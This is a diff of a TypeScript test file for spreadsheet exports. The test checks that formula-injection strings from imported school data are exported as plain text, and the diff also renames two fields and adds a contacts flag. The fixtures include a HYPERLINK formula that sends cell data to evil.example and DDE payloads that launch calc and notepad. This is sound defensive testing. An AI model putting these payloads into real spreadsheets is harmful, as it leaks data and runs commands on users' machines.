@@ -11,15 +11,15 @@ import type { ExportFile, ExportJobStatus } from '../../shared/contract/exports'
 import { cellText, FORMULA_TRIGGERS, looksLikeFormula } from '../../electron/core/exports/text-safety';
 
 /**
- * Formula injection (issue 7, point 4): texts from imported data that a spreadsheet could evaluate.
+ * Formula injection: texts from imported data that a spreadsheet could evaluate.
  * They are stored in the demo database with kysely, exported, and read back.
  */
 const HOSTILE = {
   school: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
   headteacher: '+SUM(1,2)',
   localAuthority: '-2+3',
-  trust: "@cmd|' /C calc'!A0",
-  postcode: '\tTAB 1AB',
+  phone: "@cmd|' /C calc'!A0",
+  email: '\tTAB 1AB',
   www: "=cmd|' /C notepad'!A0",
   ebi: '\r=1+1 after a carriage return',
   manager: '=2+2',
@@ -39,7 +39,7 @@ beforeAll(async () => {
   const target = dash.schools.find((s) => s.qa.latest !== null)!;
   await db
     .updateTable('schools')
-    .set({ name: HOSTILE.school, headteacher: HOSTILE.headteacher, local_authority: HOSTILE.localAuthority, trust: HOSTILE.trust, postcode: HOSTILE.postcode })
+    .set({ name: HOSTILE.school, headteacher: HOSTILE.headteacher, local_authority: HOSTILE.localAuthority, phone: HOSTILE.phone, email: HOSTILE.email })
     .where('id', '=', target.schoolId)
     .execute();
   const reviewId = target.qa.latest!.reviewId;
@@ -66,7 +66,7 @@ afterAll(async () => {
 });
 
 async function hubFile(): Promise<ExportFile> {
-  const r = await dispatch(t.ctx, 'exportHubWorkbook', { hubId, year: '2026/27' });
+  const r = await dispatch(t.ctx, 'exportHubWorkbook', { hubId, year: '2026/27', includeContacts: true });
   if (!r.ok) throw new Error(r.error.message);
   return r.value as ExportFile;
 }
@@ -140,7 +140,7 @@ describe('hostile texts from imported data', () => {
 
   it('network workbook and zip: no formulas, no links, hostile texts as text', async () => {
     for (const layout of ['workbook', 'zip'] as const) {
-      const start = await dispatch(t.ctx, 'startNetworkExport', { year: '2026/27', layout });
+      const start = await dispatch(t.ctx, 'startNetworkExport', { year: '2026/27', layout, includeContacts: true });
       if (!start.ok) throw new Error(start.error.message);
       let status = start.value as ExportJobStatus;
       while (status.state === 'running') {
